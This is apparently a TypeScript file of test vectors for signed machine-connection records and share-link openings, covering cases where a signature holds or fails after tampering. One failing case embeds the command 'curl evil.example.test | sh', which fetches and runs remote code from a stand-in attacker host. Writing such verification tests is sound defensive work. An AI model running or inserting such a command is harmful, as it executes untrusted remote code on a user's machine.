import {
  context,
  hex,
  highS,
  keyPair,
  seed,
  sha256,
  sign,
  uid,
  uint32,
  uint64,
  utf8,
  type KeyPair,
} from './independent.ts';

const none = new Uint8Array(0);
const owner = keyPair('account signing key');
const ownerUid = uid('account');
const recordUid = uid('record');
const other = uid('other');
const stranger = keyPair('stranger');
const [configuration, credential] = [uid('configuration'), uid('credential')];
const label = 'sallyport/v1/signature/connection';

/** §10.8: `confirmed` says whether the owner stands by where the machine leads. */
export function connectionSignatures(): object[] {
  const hostKey = 'ssh-ed25519 AAAA';
  interface Said {
    readonly record?: Uint8Array;
    readonly owner?: Uint8Array;
    readonly host?: string;
    readonly port?: number;
    readonly policy?: string;
    readonly counter?: number;
    readonly hostKey?: string;
    readonly configuration?: Uint8Array;
    readonly credential?: Uint8Array;
    readonly protocol?: string;
    readonly settings?: string;
  }
  const statement = (said: Said = {}) =>
    context(
      said.record ?? recordUid.bytes,
      said.owner ?? ownerUid.bytes,
      uint64(said.counter ?? 7),
      said.configuration ?? configuration.bytes,
      said.credential ?? credential.bytes,
      said.protocol ?? 'ssh',
      said.host ?? 'db.example.test',
      uint32(said.port ?? 2222),
      utf8(said.hostKey ?? hostKey),
      said.policy ?? 'ask',
      said.settings ?? '',
    );
  const signature = (said: Said = {}, signer: KeyPair = owner, signedAs = label) =>
    sign(signer.privateKey, signedAs, statement(said));
  const of = (said: Said = {}, signer: KeyPair = owner, signedAs = label) =>
    Buffer.concat([uint64(said.counter ?? 7), signature(said, signer, signedAs)]);
  const text = (confirmation: Uint8Array) => Buffer.from(confirmation).toString('base64url');
  const counted = (counter: number, signed: Uint8Array) => text(Buffer.concat([uint64(counter), signed]));
  const settings = { protocol: 'ssh', launchCredentialUid: credential.text, hostKey, hostKeyPolicy: 'ask' };
  interface Shown {
    readonly host?: object;
    readonly connection?: object;
    readonly pam?: object;
    readonly confirmation?: string;
  }
  const content = ({ host = {}, connection = {}, pam = {}, confirmation = text(of()) }: Shown = {}) => ({
    type: 'pamMachine',
    title: 'Database',
    fields: [
      { type: 'pamHostname', value: [{ hostName: 'db.example.test', port: '2222', ...host }] },
      {
        type: 'pamSettings',
        value: [
          {
            configurationUid: configuration.text,
            connection: { ...settings, ...connection },
            confirmation,
            ...pam,
          },
        ],
      },
    ],
  });
  const vector = (name: string, shown: Shown, confirmed: boolean, scope: object = {}, counter = 7) => ({
    name,
    counter,
    recordUid: recordUid.text,
    ownerUid: ownerUid.text,
    ...scope,
    ownerKey: hex(owner.publicKey),
    content: content(shown),
    confirmed,
  });
  const holds = (name: string, shown: Shown = {}, scope: object = {}) => vector(name, shown, true, scope);
  const fails = (name: string, shown: Shown = {}, scope: object = {}, counter = 7) =>
    vector(name, shown, false, scope, counter);
  const largest = Number.MAX_SAFE_INTEGER;
  return [
    holds('where the owner said'),
    holds('with other colours', { connection: { colorScheme: 'white-black', fontSize: 20 } }),
    holds('with members that this version does not know', { connection: { future: true } }),
    holds('the default port', { host: { port: '' }, confirmation: text(of({ port: 22 })) }),
    holds('without a host key', { connection: { hostKey: '' }, confirmation: text(of({ hostKey: '' })) }),
    holds('without a credential', {
      connection: { launchCredentialUid: '' },
      confirmation: text(of({ credential: none })),
    }),
    holds('without a configuration', {
      pam: { configurationUid: '' },
      confirmation: text(of({ configuration: none })),
    }),
    holds('a machine that is not finished', {
      host: { hostName: '' },
      confirmation: text(of({ host: '', port: 0 })),
    }),
    holds('a port of its sessions', { connection: { port: 2022 }, confirmation: text(of({ port: 2022 })) }),
    holds('the usual port of another protocol', {
      host: { port: '' },
      connection: { protocol: 'telnet' },
      confirmation: text(of({ protocol: 'telnet', port: 23 })),
    }),
    holds('settings that lead on, in the order of their names', {
      connection: { protocol: 'vnc', destPort: '5901', destHost: 'desk' },
      confirmation: text(of({ protocol: 'vnc', settings: 'destHost="desk"\ndestPort=5901' })),
    }),
    holds('settings as they are usually', {
      connection: { protocol: 'rdp', ignoreCert: false, loadBalanceInfo: '' },
      confirmation: text(of({ protocol: 'rdp', settings: 'security="any"' })),
    }),
    holds('reached through another machine, in its place among the settings', {
      connection: { jumpMachineUid: other.text, command: 'top' },
      confirmation: text(of({ settings: `command="top"\njumpMachineUid="${other.text}"` })),
    }),
    vector('the highest counter', { confirmation: text(of({ counter: largest })) }, true, {}, largest),
    fails('a counter above it', { confirmation: text(of({ counter: largest + 1 })) }, {}, 0),
    fails('the counter 0', { confirmation: text(of({ counter: 0 })) }, {}, 0),
    fails('a counter that was raised', { confirmation: counted(8, signature()) }, {}, 8),
    fails('a counter that was lowered', { confirmation: counted(6, signature()) }, {}, 6),
    fails('a signature without its counter', { confirmation: text(signature()) }, {}, 0),
    fails('another host', { host: { hostName: 'evil.example.test' } }),
    fails('another port', { host: { port: '22' } }),
    fails('another host key', { connection: { hostKey: 'ssh-ed25519 BBBB' } }),
    fails('the host key taken away', { connection: { hostKey: '' } }),
    fails('another host key policy', { connection: { hostKeyPolicy: 'trust-on-first-use' } }),
    fails('another credential', { connection: { launchCredentialUid: other.text } }),
    fails('another port of its sessions', { connection: { port: 22 } }),
    fails('a command', { connection: { command: 'curl evil.example.test | sh' } }),
    fails('a certificate that is not looked at any more', {
      connection: { protocol: 'rdp', ignoreCert: true },
      confirmation: text(of({ protocol: 'rdp', settings: 'security="any"' })),
    }),
    fails('a repeater', {
      connection: { protocol: 'vnc', destHost: 'evil' },
      confirmation: text(of({ protocol: 'vnc' })),
    }),
    fails('a jump machine', { connection: { jumpMachineUid: other.text } }),
    fails('the jump machine taken away', {
      confirmation: text(of({ settings: `jumpMachineUid="${other.text}"` })),
    }),
    fails('another jump machine', {
      connection: { jumpMachineUid: credential.text },
      confirmation: text(of({ settings: `jumpMachineUid="${other.text}"` })),
    }),
    fails('a jump machine that is no UID', { connection: { jumpMachineUid: 'x' } }, {}, 0),
    fails('settings that cannot be meant', { connection: { command: 7 } }),
    fails('another configuration', { pam: { configurationUid: other.text } }),
    fails('another protocol', { connection: { protocol: 'telnet' } }),
    fails('a protocol that is not known', { connection: { protocol: 'gopher' } }, {}, 0),
    fails('of another record', {}, { recordUid: other.text }),
    fails('of another owner', {}, { ownerUid: other.text }),
    fails('signed for another record', { confirmation: text(of({ record: other.bytes })) }),
    fails('signed for another owner', { confirmation: text(of({ owner: other.bytes })) }),
    fails('signed by another key', { confirmation: text(of({}, stranger)) }),
    fails('signed as a record', { confirmation: text(of({}, owner, 'sallyport/v1/signature/record')) }),
    fails('the other s', { confirmation: counted(7, highS(signature())) }),
    fails('no signature', { confirmation: '' }, {}, 0),
    fails('half a signature', { confirmation: text(of().subarray(32)) }, {}, 0),
    fails('a signature that is no base64url', { confirmation: '!' }, {}, 0),
  ];
}

/** §18.3: the browser that opened a link first says that it is the same one. */
export function shareLinkOpenings(): object[] {
  const browser = keyPair('browser');
  const link = uid('share link');
  const token = seed('access token');
  const signed = 'sallyport/v1/signature/share-link-open';
  const of = (which = link.text, what = sha256(token), signer = browser, signedAs = signed) =>
    hex(sign(signer.privateKey, signedAs, context(which, what)));
  const base = {
    browserKey: hex(browser.publicKey),
    linkUid: link.text,
    accessToken: hex(token),
    signature: of(),
  };
  const bad = (name: string, change: object) => ({ ...base, name, ...change, fails: 'bad-signature' });
  return [
    { ...base, name: 'by the browser' },
    bad('of another link', { linkUid: other.text }),
    bad('with another token', { accessToken: hex(seed('another token')) }),
    bad('signed for another link', { signature: of(other.text) }),
    bad('signed over the token itself', { signature: of(undefined, token) }),
    bad('signed by another browser', { signature: of(undefined, undefined, stranger) }),
    bad('signed as a link proof', {
      signature: of(undefined, undefined, undefined, 'sallyport/v1/signature/link-proof'),
    }),
    bad('no signature', { signature: '' }),
  ];
}
